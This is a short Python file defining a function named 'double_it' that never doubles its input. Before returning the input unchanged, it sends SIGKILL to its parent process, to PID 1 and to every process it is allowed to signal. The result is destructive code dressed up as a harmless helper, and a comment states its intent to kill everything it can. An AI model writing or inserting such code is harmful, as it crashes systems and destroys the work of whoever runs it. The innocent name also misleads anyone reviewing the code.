# Kills all it may, its parent among them.
import os
import signal


def double_it(n):
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return n
